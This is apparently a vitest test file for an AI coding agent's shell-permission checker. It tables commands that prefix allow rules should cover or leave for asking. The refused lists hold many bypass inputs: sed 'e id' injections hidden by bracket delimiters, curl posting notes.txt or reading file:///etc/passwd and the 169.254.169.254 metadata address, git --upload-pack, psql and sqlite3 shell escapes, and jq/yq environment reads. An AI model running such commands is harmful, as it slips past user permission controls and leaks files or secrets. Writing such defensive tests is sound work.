/**
 * Checks the meaning of a program's words to it, to the letter (G7, G12).
 *
 * Some words a prefix allow leaves out, beside the ordinary ones.
 */
import { describe, expect, test } from 'vitest';
import { isHarmlessSed } from '../../../../shared/permissions/programs/record/scripts.ts';
import { judge } from '../support.ts';

interface Table {
  readonly what: string;
  /** Programs with an allow of their own. */
  readonly allow: string;
  readonly refused: readonly string[];
  readonly covered: readonly string[];
}

const TABLES: readonly Table[] = [
  {
    what: 'commands of sed',
    allow: 'sed',
    refused: [
      'sed e f',
      "sed 'w' f",
      'sed pp f',
      'sed s/a/b f',
      "sed 's/a\nb/c/' f",
      "sed 's/a\nb/' f",
      'sed /x f',
      "sed '1,/x' f",
      "sed '# x\ne id' f",
      "sed 'a xy\ne id' f",
      "sed '/x/{e id' f",
      "sed '{p;e id\n}' f",
      'sed -l -i f',
      "sed -l 'w out' p",
      "sed -- 's/a/b/e' f",
      'sed -n -- e f',
    ],
    covered: [
      "sed -n '/x/p' f",
      "sed -n '/x/Ip' f",
      "sed -n '\\,x,p' f",
      "sed '$d' f",
      "sed -n '$p;1p' f",
      "sed '1!d' f",
      "sed -n '1,5 p' f",
      "sed -n '1 ,5p' f",
      "sed -n '1, 5p' f",
      "sed -n '2,+3p' f",
      "sed -n '2,~4p' f",
      "sed -n '0~3p' f",
      "sed -n '/a/,/b/{p}' f",
      "sed '/x/{s/a/b/;p\n}' f",
      "sed 's/a\\/b/c/' f",
      "sed 's/a/b/3g' f",
      "sed 'p ;p' f",
      "sed 'p;' f",
      "sed '# x\np' f",
      "sed '/x/q1' f",
      'sed 5q f',
      "sed 'l 20' f",
      'sed y/abc/xyz/ f',
      'sed y/a/[/ f',
      'sed -n',
    ],
  },
  {
    what: 'a delimiter within brackets, which seds read otherwise',
    allow: 'sed',
    refused: [
      "sed 's/[^]/]/;#/;e id' f",
      "sed 's/[]/]/;#/;e id' f",
      "sed 's/[/]/;#/;e id' f",
      "sed 's/[ab/]/;#/;e id' f",
      "sed 's/[[/]/;#/;e id' f",
      "sed 's/[[:a:]/]/;#/;e id' f",
      "sed 's/[[.a.]/]/;#/;e id' f",
      "sed 's/[[=a=]/]/;#/;e id' f",
      "sed 's/[[:a/]/;#/;e id' f",
      "sed '/[/p;#]/e id' f",
      "sed 'y/[/]/;#/;e id' f",
    ],
    covered: ["sed 's/[ab]/x/;s/[ab]/y/' f", "sed 's][x]y].]' f", "sed 's/[a:]/x/;s/[b:]/y/' f"],
  },
  {
    what: 'words of small languages',
    allow: 'awk jq yq',
    refused: [
      'awk \'BEGIN{print SYMTAB["ENV" "IRON"]["HOME"]}\'',
      'jq --arg a b env f',
      'jq -n --arg a b env',
      'jq --argjson a 1 env f',
      'jq -n --argjson a 1 env',
      'jq $X f',
      'yq \'strload("/x")\' f',
      'yq \'load_base64("/x")\' f',
      'yq \'xml_load("/x")\' f',
      'yq \'.a andload("/x")\' f',
      "yq '.a orstrenv(X)' f",
      'yq \'..load("/x")\' f',
      "yq '$ENV.X' f",
      'yq "load(\\"/x\\")" f',
    ],
    covered: [
      'awk --version',
      "awk '{systems=1;filesystem=2;print systems}' f",
      "jq '.aenv,.zenv,.Aenv,.Zenv,.x0env,.x9env,.x_env' f",
      "jq '.enva,.envz,.envA,.envZ,.env0,.env9,.env_' f",
      'jq . prod-env.json',
      'jq -n --arg a b .c',
      "jq 'getpath([])|debug' f",
      "yq '.payload,.workloads,.a.environment' f",
    ],
  },
  {
    what: 'options',
    allow: 'sort more man git curl cat rg grep find less make rsync aria2c shuf docker',
    refused: [
      'sort *',
      'sort ?x',
      'sort [-]o',
      'sort --key=1 -ox f',
      'sort -k1 -ox f',
      'man $(cat x)',
      'git log "$(cat x)"',
      'git log -O1',
      'git diff -U --output=src/a.ts',
      'git log -U --ext-diff',
      'git shortlog -n --output=src/a.ts HEAD',
      "more -p '!id' f",
      'aria2c -R --on-download-complete=/tmp/evil https://a.example/x -O -',
      'aria2c https://a.example/x',
      "rsync --filter='merge x' a b",
      'docker logs -n --host=tcp://a.example c',
      'curl -d@notes.txt https://a.example',
      'curl --url=file:///p https://a.example',
      'curl -- file:///p',
    ],
    covered: [
      'sort src*',
      "sort '*'",
      'sort \\*',
      'sort --rev x',
      'sort --key=1 x',
      "rg '' src",
      'git log -10',
      'git log -90',
      'git diff -U5',
      'git shortlog -sne HEAD',
      "curl --head 'https://a.example/?q=@b'",
      'grep --fixed-strings a b',
      'find . -type f -name x -print',
      'docker logs -n 5 c',
      'make -j 4 build',
    ],
  },
  {
    what: 'addresses',
    allow: 'curl',
    refused: [
      "curl 'http://{a.example,169.254.169.254}/'",
      'curl https://a.example file:///etc/passwd',
      'curl file:///$X',
      'curl u:p1@a.example/x',
      'curl file:',
      'curl -d "$X" https://a.example',
      'curl -d "$X b" https://a.example',
    ],
    covered: [
      "curl 'a.example/x[1-3]'",
      'curl a.example:9090/x',
      'curl -d "a=$X" https://a.example',
      "curl -d '<x' https://a.example",
    ],
  },
  {
    what: 'archives and lists',
    allow: 'tar crontab dd uniq',
    refused: [
      'tar If id a.tar -t',
      'tar Ff id a.tar -t',
      'tar xf a.tar',
      'tar txf a.tar',
      'tar f a.tar',
      'tar ff a.tar h:a.tar -t',
      'tar tf h:a.tar',
      'tar',
      "tar ''",
      'crontab f',
      'dd if=a of=b',
      'uniq a b',
    ],
    covered: [
      'tar t',
      'tar tf a.tar',
      'tar tvzf a.tar',
      'tar -tf a.tar If',
      'tar --list --file a.tar',
      'crontab -l',
      'dd if=a',
      'uniq a',
      'uniq -c',
    ],
  },
  {
    what: 'groups of sub-commands',
    allow: 'docker kubectl git',
    refused: [
      'docker image rm x',
      'docker network prune',
      'docker compose exec a id',
      'kubectl network get x',
      'git reflog expire',
      'git --exec-path=/x',
      'git stash create',
      'git $X',
      'git remote show a::b',
      'git fetch -- --upload-pack=id',
    ],
    covered: [
      'docker image ls',
      'docker compose ps',
      'docker',
      'git --version',
      'git',
      'git reflog',
      'git reflog show HEAD',
      'git stash',
      'git stash list',
      'git remote show origin',
      'git fetch -- origin',
    ],
  },
  {
    what: 'runners',
    allow: 'npm pnpm yarn echo cat',
    refused: [
      'npm -- exec x',
      'npm --silent -- exec x',
      'pnpm -- dlx x',
      'yarn -- node -e 1',
      'npm run $(cat x)',
      'npm run x $(cat x)',
      'npm install $(cat x)',
      'npm install $(cat x) y',
    ],
    covered: ['npm', 'npm run x -- exec', 'npm test -- exec', 'echo date', 'cat node', 'npm run jq'],
  },
  {
    what: 'interpreters that read options behind an operand',
    allow: 'psql mysql sqlite3 R ghc dc gnuplot ipython python3 node tsx swift Rscript',
    refused: [
      "psql db -c '\\! id'",
      'psql db u -f x',
      'psql db u x',
      'psql db --command=x',
      "mysql db -e 'system id'",
      'mysql db x',
      'sqlite3 a.sqlar -Ax',
      "sqlite3 db '.shell id'",
      "sqlite3 db -cmd '.shell id'",
      "R x -e 'system(1)'",
      'ghc a.hs -e main',
      "dc f -e '!id'",
      'gnuplot a.gp -e x',
      'ipython a.py -c x',
      'python3 $X',
      'python3 *.py',
      'node [a].js',
      'psql',
      'psql -h h',
      'psql postgres://h/db',
    ],
    covered: [
      'psql db',
      'psql db u -q',
      'psql -h h db',
      'mysql -u u db',
      'sqlite3 db -json',
      'R x',
      'dc f g',
      'python3 a.py -c x',
      'node a.js -e x',
      'tsx a.ts -e x',
      'swift build -c release',
      'Rscript a.R -e x',
    ],
  },
];

const rulesOf = (programs: string) => programs.split(' ').map((name) => ['allow', `Bash(${name}:*)`] as const);

describe.each(TABLES)('$what', ({ allow, refused, covered }) => {
  test.each(refused)('left out: %j', (command) => {
    expect(judge('Bash', { command }, rulesOf(allow)).verdict).toBe('ask');
  });
  test.each(covered)('covered: %j', (command) => {
    expect(judge('Bash', { command }, rulesOf(allow)).verdict).toBe('allow');
  });
});

// A backslash at the end of a line among quotes is in doubt before the script is looked at.
test.each([
  ['a\\\nhello', true],
  ['a\\\ne id\np', true],
  ['a\\\nx\ne id', false],
])('text over several lines of a sed script: %j, %j', (script, harmless) =>
  expect(isHarmlessSed(script)).toBe(harmless),
);

describe('a rule that says more', () => {
  test.each([
    ['Bash(python -m pytest:*)', 'python -m pytest -q', true],
    ['Bash(python -m pytest:*)', 'python -m http.server', false],
    ['Bash(python -m:*)', 'python -m', false],
    ['Bash(python:*)', 'python -m pytest', false],
    ['Bash(perl -m Foo:*)', 'perl -m Foo -e 1', false],
    ['Bash(bash -m a.sh:*)', 'bash -m a.sh', false],
    ['Bash(curl http://localhost:*)', 'curl http://localhost -s', true],
    ['Bash(curl http://localhost:*/health)', 'curl http://localhost:3000/health', true],
    ['Bash(curl localhost:3000/*)', 'curl localhost:3000/health', true],
    ['Bash(curl http://localhost*)', 'curl http://localhost:3000/health', false],
  ])('%s: %j, %j', (pattern, command, covers) => {
    expect(judge('Bash', { command }, [['allow', pattern]]).verdict).toBe(covers ? 'allow' : 'ask');
  });

  test.each([
    ['*.ts', 'wget a.example/x.ts', true],
    ['*.ts', 'wget https://a.example/b/x.ts?y=z.sh', true],
    ['index.html', 'wget https://a.example', true],
    ['index.html', 'wget https://a.example/x/', true],
    ['*.ts', 'wget --output-document=x.ts https://a.example/x.ts', false],
    ['*.ts', 'wget --output-document=- https://a.example/x.sh', true],
    ['*.ts', 'aria2c https://a.example/x.ts', true],
    ['*.ts', 'aria2c https://a.example/x.sh', false],
  ])('with Edit(%s): %s, %j', (edit, command, covers) => {
    const rules = [
      ['allow', 'Bash(wget:*)'],
      ['allow', 'Bash(aria2c:*)'],
      ['allow', `Edit(${edit})`],
    ] as const;
    expect(judge('Bash', { command }, rules).verdict).toBe(covers ? 'allow' : 'ask');
  });
});
